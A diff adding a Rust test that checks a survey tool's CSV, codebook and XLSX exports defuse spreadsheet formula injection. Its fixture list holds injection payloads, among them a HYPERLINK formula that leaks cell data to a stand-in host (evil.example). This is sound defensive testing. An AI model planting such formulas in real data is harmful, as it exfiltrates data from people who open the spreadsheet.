@@ -402,7 +402,9 @@ fn two_versions_keep_every_column_labels_and_codebook() {
     assert_eq!(find("hh_size")[7], "min=1; max=30");
     assert_eq!(find("n_members")[9], "count(${member})");
     assert_eq!(find("income/pension")[2], "收入来源：养老金");
-    assert_eq!(rows.len() - 1, header.len() + member[0].len());
+    // One row per column of each table, then the note on CSV text.
+    assert_eq!(rows.len() - 2, header.len() + member[0].len());
+    assert_eq!(rows.last().unwrap()[4], "note");
     let (code, bytes) =
         get(&http, &server.at("/api/v1/questionnaires/household/codebook.xlsx"), Some(&admin));
     assert_eq!(code, 200);
@@ -421,4 +423,209 @@ fn two_versions_keep_every_column_labels_and_codebook() {
     );
     assert_eq!(code, 404);
     assert_eq!(serde_json::from_slice::<Value>(&bytes).unwrap()["code"], "export.unknown_table");
+}
+
+/// Text a spreadsheet would run as a formula, one per dangerous first character.
+const FORMULAS: [&str; 6] = [
+    r#"=HYPERLINK("http://evil.example/?"&C2,"x")"#,
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+];
+
+/// A questionnaire whose text, numbers, repeat rows, labels and expressions can all
+/// hold what a spreadsheet would run.
+fn formula_form() -> Value {
+    json!({
+        "id": "inject",
+        "version": "1",
+        "title": {"zh": "公式注入（测试）", "en": "Formula injection (test)"},
+        "items": [
+            {"type": "text", "name": "note", "label": {"zh": "=HYPERLINK(\"http://evil.example\",\"备注\")", "en": "Note"}},
+            {"type": "integer", "name": "n", "label": {"zh": "整数", "en": "Integer"}},
+            {"type": "decimal", "name": "x", "label": {"zh": "小数", "en": "Decimal"}},
+            {"type": "calculate", "name": "neg", "calculation": "-${n}"},
+            {"type": "repeat", "name": "kid", "label": {"zh": "孩子", "en": "Children"}, "items": [
+                {"type": "text", "name": "kname", "label": {"zh": "姓名", "en": "Name"}, "relevant": "-${n} > 0"}
+            ]}
+        ]
+    })
+}
+
+fn formula_response(note: &str, enumerator: &str, n: i64, x: f64, kname: &str) -> Value {
+    json!({
+        "instance_id": new_instance_id(),
+        "questionnaire": {"id": "inject", "version": "1"},
+        "status": "complete",
+        "answers": {"note": note, "n": n, "x": x, "kid": [{"kname": kname}]},
+        "meta": {
+            "started_at": "2026-07-01T09:30:00+08:00",
+            "submitted_at": "2026-07-01T09:45:00+08:00",
+            "enumerator": enumerator
+        }
+    })
+}
+
+/// The rows of CSV `bytes`, keyed by the text of column `key` (as `written`).
+fn by_column(table: &Table, key: &str) -> HashMap<String, Vec<String>> {
+    let col = table[0].iter().position(|h| h == key).unwrap_or_else(|| panic!("{key}"));
+    table[1..].iter().map(|r| (r[col].clone(), r.clone())).collect()
+}
+
+#[test]
+fn csv_text_a_spreadsheet_would_run_gets_a_quote_unless_raw_and_numbers_stay_numbers() {
+    let data = temp_dir("tianye-export-formulas");
+    let dir = data.path().to_str().unwrap();
+    let forms = temp_dir("tianye-export-formulas-form");
+    std::fs::write(forms.path().join("form.json"), formula_form().to_string()).unwrap();
+    let server = Server::start(data.path(), &["--forms", forms.path().to_str().unwrap()]);
+    let admin = server.admin_token.clone().unwrap();
+    let http = client();
+    // One response per dangerous text: in a text answer and in a repeat row's answer
+    // (every one), in meta.enumerator and in the team name (no tab or CR there: a team
+    // name has no control characters). Numbers are negative.
+    for (i, f) in FORMULAS.iter().enumerate() {
+        let printable = !f.starts_with(['\t', '\r']);
+        let team = if printable { (*f).to_owned() } else { format!("队{i}") };
+        let enumerator = if printable { (*f).to_owned() } else { format!("调查员{i}") };
+        let token = token_for(dir, &team);
+        let r = formula_response(f, &enumerator, -3 - i as i64, -2.5, f);
+        let (status, reply) = upload(&http, &server.url, Some(&token), &r.to_string());
+        assert_eq!(status, 201, "{f:?}: {reply}");
+    }
+    // A text answer that is a plain negative number is left as it is.
+    let token = token_for(dir, "一队");
+    let plain = formula_response("-5", "李明", -7, 0.5, "-5");
+    assert_eq!(upload(&http, &server.url, Some(&token), &plain.to_string()).0, 201);
+
+    let quoted = |f: &str| format!("'{f}");
+    let export = |query: &str| {
+        let (status, bytes) = get(
+            &http,
+            &server.at(&format!("/api/v1/questionnaires/inject/export.csv{query}")),
+            Some(&admin),
+        );
+        assert_eq!(status, 200, "{query}");
+        read_csv(&bytes)
+    };
+
+    // Over HTTP and through the CLI, the same neutralised files.
+    let main = export("");
+    let kids = export("?table=kid");
+    let csv_path = data.path().join("inject.csv");
+    export_file(dir, "inject", "csv", &csv_path);
+    assert_eq!(read_csv(&std::fs::read(&csv_path).unwrap()), main);
+    assert_eq!(read_csv(&std::fs::read(data.path().join("inject-kid.csv")).unwrap()), kids);
+    let col = |h: &str| main[0].iter().position(|x| x == h).unwrap();
+    let notes = by_column(&main, "note");
+    assert_eq!(notes.len(), FORMULAS.len() + 1);
+    for (i, f) in FORMULAS.iter().enumerate() {
+        let row = &notes[&quoted(f)];
+        let printable = !f.starts_with(['\t', '\r']);
+        if printable {
+            assert_eq!(row[col("team")], quoted(f));
+            assert_eq!(row[col("enumerator")], quoted(f));
+        }
+        // Numbers answered to number questions, and calculated, stay numbers.
+        assert_eq!(row[col("n")], (-3 - i as i64).to_string());
+        assert_eq!(row[col("x")], "-2.5");
+        assert_eq!(row[col("neg")], (3 + i).to_string());
+    }
+    let plain_row = &notes["-5"];
+    assert_eq!((plain_row[col("team")].as_str(), plain_row[col("n")].as_str()), ("一队", "-7"));
+    let knames = by_column(&kids, "kname");
+    for f in FORMULAS {
+        assert!(knames.contains_key(&quoted(f)), "{f:?} in {knames:?}");
+    }
+    assert!(knames.contains_key("-5"));
+
+    // Raw: every cell as it was written, for tools that read CSV as data.
+    let raw = export("?raw=1");
+    let (code, out, err) =
+        tianye(&["export", "--data", dir, "inject", "--format", "csv", "--raw-csv", "-o", "-"]);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(read_csv(out.as_bytes()), raw);
+    let raw_notes = by_column(&raw, "note");
+    for f in FORMULAS {
+        assert!(raw_notes.contains_key(f), "{f:?}");
+    }
+    assert_eq!(raw_notes["+1+1"][col("team")], "+1+1");
+    let raw_kids = by_column(&export("?table=kid&raw=1"), "kname");
+    assert!(FORMULAS.iter().all(|f| raw_kids.contains_key(*f)));
+    let (code, _, err) =
+        tianye(&["export", "--data", dir, "inject", "--format", "xlsx", "--raw-csv"]);
+    assert_eq!(code, 2);
+    assert!(err.contains("--raw-csv"), "{err}");
+
+    // The codebook: labels and expressions are text like any other, and it says so.
+    let (status, bytes) =
+        get(&http, &server.at("/api/v1/questionnaires/inject/codebook.csv"), Some(&admin));
+    assert_eq!(status, 200);
+    let book = read_csv(&bytes);
+    let book_path = data.path().join("book.csv");
+    export_file(dir, "inject", "codebook", &book_path);
+    assert_eq!(read_csv(&std::fs::read(&book_path).unwrap()), book);
+    let find = |rows: &Table, v: &str| rows.iter().find(|r| r[1] == v).unwrap().clone();
+    assert_eq!(find(&book, "note")[2], "'=HYPERLINK(\"http://evil.example\",\"备注\")");
+    assert_eq!(find(&book, "neg")[9], "'-${n}");
+    assert_eq!(find(&book, "kname")[6], "'-${n} > 0");
+    let note = book.last().unwrap();
+    assert_eq!(note[4], "note");
+    assert!(note[2].contains("tianye export --raw-csv") && note[3].contains("?raw=1"), "{note:?}");
+    let (status, bytes) =
+        get(&http, &server.at("/api/v1/questionnaires/inject/codebook.csv?raw=1"), Some(&admin));
+    assert_eq!(status, 200);
+    let raw_book = read_csv(&bytes);
+    assert_eq!(find(&raw_book, "neg")[9], "-${n}");
+    let (code, out, err) = tianye(&[
+        "export",
+        "--data",
+        dir,
+        "inject",
+        "--format",
+        "codebook",
+        "--raw-csv",
+        "-o",
+        "-",
+    ]);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(read_csv(out.as_bytes()), raw_book);
+
+    // XLSX keeps the text as it is, as a string, never a formula.
+    let xlsx_path = data.path().join("inject.xlsx");
+    export_file(dir, "inject", "xlsx", &xlsx_path);
+    let (status, bytes) =
+        get(&http, &server.at("/api/v1/questionnaires/inject/export.xlsx"), Some(&admin));
+    assert_eq!(status, 200);
+    strings_not_formulas(&mut open_workbook_from_rs(Cursor::new(bytes)).unwrap());
+    strings_not_formulas(&mut open_workbook(&xlsx_path).unwrap());
+}
+
+/// `tianye token create --team=TEAM` (the `=` form, as a team name may start with `-`).
+fn token_for(dir: &str, team: &str) -> String {
+    let (code, out, err) = tianye(&["token", "create", "--data", dir, &format!("--team={team}")]);
+    assert_eq!(code, 0, "{team:?}: {out}{err}");
+    out.lines().last().expect("token line").trim().to_owned()
+}
+
+/// The XLSX export of `inject`: text written as it is, as strings; numbers as numbers;
+/// no cell holds a formula.
+fn strings_not_formulas<R: std::io::Read + std::io::Seek>(wb: &mut Xlsx<R>) {
+    for name in wb.sheet_names() {
+        let formulas = wb.worksheet_formula(&name).expect("formulas");
+        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{name} has formulas");
+    }
+    let main = wb.worksheet_range("inject").expect("main sheet");
+    let header: Vec<String> = main.rows().next().unwrap().iter().map(data_text).collect();
+    let col = |h: &str| header.iter().position(|x| x == h).unwrap();
+    let texts: Vec<&Data> = main.rows().skip(1).map(|r| &r[col("note")]).collect();
+    for f in FORMULAS {
+        assert!(texts.contains(&&Data::String(f.to_owned())), "{f:?} in {texts:?}");
+    }
+    assert!(main.rows().skip(1).all(|r| matches!(r[col("n")], Data::Float(v) if v < 0.0)));
+    let kid = wb.worksheet_range("kid").expect("kid sheet");
+    let knames: Vec<&Data> = kid.rows().skip(1).map(|r| &r[2]).collect();
+    assert!(knames.contains(&&Data::String("-2+3".to_owned())), "{knames:?}");
 }
